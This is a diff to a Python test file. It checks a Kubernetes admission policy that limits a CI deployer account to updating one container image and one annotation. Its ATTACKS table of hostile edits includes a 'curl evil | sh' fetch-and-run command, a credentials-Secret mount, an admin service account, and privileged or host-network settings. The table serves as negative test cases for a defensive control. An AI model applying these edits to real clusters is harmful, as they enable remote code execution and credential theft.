@@ -4,6 +4,7 @@ job namespace, RBAC and deploy identity; the config errors that guard them; swit
 
 from __future__ import annotations
 
+import copy
 import tomllib
 from types import SimpleNamespace
 
@@ -15,13 +16,13 @@ from components.host.profiles import CI_BUILD_APPARMOR_PROFILE, apparmor_profile
 from components.platform import gitlab, gitlab_runner
 from components.services.namespaces import LAYER_LABEL
 from config import load
-from config.catalog import CI_NAMESPACE, DEPLOYER_SERVICE_ACCOUNT
+from config.catalog import CI_NAMESPACE, DEPLOYER_SERVICE_ACCOUNT, SERVICE_CONTAINER
 from config.data import BUCKET_PURPOSES
 from config.platform import NEEDS
 from config.rules import RUNNER_TOKEN
 from policy.rules import Subject, no_plaintext_secrets, walk
-from tests import validators, variants
-from tests.conftest import SECRET_KEYS, base_raw, k3s_config, script_param
+from tests import cel_subset, validators, variants
+from tests.conftest import ROOT, SECRET_KEYS, base_raw, k3s_config, script_param
 from tests.stores import RELEASE, SECRET, chart_of, config_problems, policy, ports, stack_config, string_data
 from tools.mockrun import Run
 
@@ -450,6 +451,134 @@ def test_the_deployer_may_only_roll_team_deployments(with_runner):
     assert binding.inputs["subjects"] == [{"kind": "ServiceAccount", "name": DEPLOYER_SERVICE_ACCOUNT,
                                            "namespace": CI_NAMESPACE}]
     assert binding.inputs["roleRef"]["kind"] == "Role" and binding.inputs["roleRef"]["name"] == DEPLOYER_SERVICE_ACCOUNT
+
+
+VAP = "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy"
+VAP_BINDING = "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBinding"
+DEPLOYER_REQUEST = {"userInfo": {"username": f"system:serviceaccount:{CI_NAMESPACE}:{DEPLOYER_SERVICE_ACCOUNT}"}}
+
+
+def service_deployment() -> dict:
+    """A Deployment as the API server stores it: the service container, a sidecar, a Secret volume."""
+    return {"apiVersion": "apps/v1", "kind": "Deployment",
+            "metadata": {"name": "bidding", "namespace": "ads", "generation": 4, "resourceVersion": "100",
+                         "labels": {"app.kubernetes.io/name": "bidding"},
+                         "annotations": {"deployment.kubernetes.io/revision": "4"},
+                         "managedFields": [{"manager": "pulumi-kubernetes"}]},
+            "spec": {"replicas": 3, "selector": {"matchLabels": {"app": "bidding"}},
+                     "template": {"metadata": {"labels": {"app": "bidding"}},
+                                  "spec": {"serviceAccountName": "bidding", "automountServiceAccountToken": False,
+                                           "containers": [
+                                               {"name": SERVICE_CONTAINER, "image": "registry/ads/bidding:1",
+                                                "args": ["--port=8080"], "env": [{"name": "A", "value": "1"}]},
+                                               {"name": "proxy", "image": "registry/proxy:2"}],
+                                           "volumes": [{"name": "tls", "secret": {"secretName": "bidding-tls"}}]}}},
+            "status": {"replicas": 3}}
+
+
+def deployer_patch(edit) -> tuple[dict, dict]:
+    """(new, old): the stored Deployment and what it becomes after `edit`, with what the API server changes on
+    every update (generation, managedFields)."""
+    old = service_deployment()
+    new = copy.deepcopy(old)
+    edit(new)
+    new["metadata"]["generation"] += 1
+    new["metadata"]["managedFields"] = [*old["metadata"]["managedFields"], {"manager": "kubectl-set"}]
+    return new, old
+
+
+def _set(path: str, value):
+    def edit(obj):
+        *parents, last = path.split(".")
+        for part in parents:
+            obj = obj[int(part)] if part.isdigit() else obj.setdefault(part, {})
+        obj[last] = value
+    return edit
+
+
+def _service_image(obj):
+    obj["spec"]["template"]["spec"]["containers"][0]["image"] = "registry/ads/bidding:2"
+
+
+def _previous_image(obj):
+    obj["metadata"]["annotations"][gitlab_runner.PREVIOUS_IMAGE_ANNOTATION] = "registry/ads/bidding:1"
+
+
+def test_the_deployer_policy_is_created_before_the_deployer_and_bound(with_runner):
+    policy = with_runner.named("deployer-policy", VAP)
+    binding = with_runner.named("deployer-policy", VAP_BINDING)
+    assert policy.inputs["spec"] == gitlab_runner.deployer_policy_spec()
+    assert binding.inputs["spec"] == {"policyName": gitlab_runner.DEPLOYER_POLICY, "validationActions": ["Deny"]}
+    assert policy.urn in binding.dependencies
+    assert policy.urn in with_runner.named("ci-deployer").dependencies  # no deploy job before the policy holds
+    for obj in (policy, binding):
+        validators.validate_kubernetes(obj.type, obj.inputs)
+    spec = policy.inputs["spec"]
+    assert spec["failurePolicy"] == "Fail"
+    assert spec["matchConstraints"]["resourceRules"] == [
+        {"apiGroups": ["apps"], "apiVersions": ["*"], "operations": ["UPDATE"], "resources": ["deployments"]}]
+
+
+def test_the_deployer_policy_names_what_deploy_sh_changes():
+    """The annotation and container the policy lets through are the ones the deploy script writes."""
+    script = (ROOT / "templates" / "gitlab-ci" / "scripts" / "deploy.sh").read_text()
+    assert f'PREVIOUS_ANNOTATION="{gitlab_runner.PREVIOUS_IMAGE_ANNOTATION}"' in script
+    assert f"container=${{SERVICE_CONTAINER:-{SERVICE_CONTAINER}}}" in script
+
+
+@pytest.mark.parametrize("edits", [[_service_image], [_previous_image], [_service_image, _previous_image], []],
+                         ids=["set-image", "annotate", "both", "no-op"])
+def test_the_deployer_may_set_the_service_image_and_the_previous_image_annotation(edits):
+    new, old = deployer_patch(lambda obj: [edit(obj) for edit in edits])
+    assert cel_subset.admits(gitlab_runner.deployer_policy_spec(), DEPLOYER_REQUEST, new, old)
+
+
+def test_the_first_annotation_on_a_deployment_without_any_is_admitted():
+    def first(obj):
+        obj["metadata"]["annotations"] = {gitlab_runner.PREVIOUS_IMAGE_ANNOTATION: "registry/ads/bidding:1"}
+    old = service_deployment()
+    del old["metadata"]["annotations"]
+    new = copy.deepcopy(old)
+    first(new)
+    assert cel_subset.admits(gitlab_runner.deployer_policy_spec(), DEPLOYER_REQUEST, new, old)
+
+
+ATTACKS = {
+    "service-account": _set("spec.template.spec.serviceAccountName", "admin-sa"),
+    "new-secret-volume": lambda o: o["spec"]["template"]["spec"]["volumes"].append(
+        {"name": "x", "secret": {"secretName": "postgres-credentials"}}),
+    "command": _set("spec.template.spec.containers.0.command", ["sh", "-c", "curl evil | sh"]),
+    "env": _set("spec.template.spec.containers.0.env", [{"name": "A", "value": "2"}]),
+    "sidecar-image": _set("spec.template.spec.containers.1.image", "evil/proxy:1"),
+    "extra-container": lambda o: o["spec"]["template"]["spec"]["containers"].append({"name": "x", "image": "evil:1"}),
+    "drop-container": lambda o: o["spec"]["template"]["spec"]["containers"].pop(),
+    "rename-service": _set("spec.template.spec.containers.0.name", "other"),
+    "init-container": _set("spec.template.spec.initContainers", [{"name": "x", "image": "evil:1"}]),
+    "host-network": _set("spec.template.spec.hostNetwork", True),
+    "host-pid": _set("spec.template.spec.hostPID", True),
+    "node-selector": _set("spec.template.spec.nodeSelector", {"node-role": "control-plane"}),
+    "tolerations": _set("spec.template.spec.tolerations", [{"operator": "Exists"}]),
+    "privileged": _set("spec.template.spec.containers.0.securityContext", {"privileged": True}),
+    "token-mount": _set("spec.template.spec.automountServiceAccountToken", True),
+    "removed-field": lambda o: o["spec"]["template"]["spec"].pop("automountServiceAccountToken"),
+    "replicas": _set("spec.replicas", 0),
+    "paused": _set("spec.paused", True),
+    "template-label": _set("spec.template.metadata.labels.app", "other"),
+    "template-annotation": _set("spec.template.metadata.annotations", {"kubectl.kubernetes.io/restartedAt": "x"}),
+    "label": _set("metadata.labels.team", "x"),
+    "other-annotation": lambda o: o["metadata"]["annotations"].update({"deployment.kubernetes.io/revision": "1"}),
+    "owner": _set("metadata.ownerReferences", [{"kind": "Secret", "name": "x"}]),
+    "finalizer": _set("metadata.finalizers", ["x/y"]),
+}
+
+
+@pytest.mark.parametrize("attack", sorted(ATTACKS))
+def test_the_deployer_may_change_nothing_else(attack):
+    new, old = deployer_patch(lambda obj: (_service_image(obj), ATTACKS[attack](obj)))
+    policy = gitlab_runner.deployer_policy_spec()
+    assert not cel_subset.admits(policy, DEPLOYER_REQUEST, new, old), attack
+    # The policy is the deployer's only: the same change by anyone else (Pulumi, the HPA) is not its business.
+    assert cel_subset.admits(policy, {"userInfo": {"username": "system:serviceaccount:ads:other"}}, new, old)
 
 
 def test_the_manager_is_restricted_sized_and_scraped(with_runner):
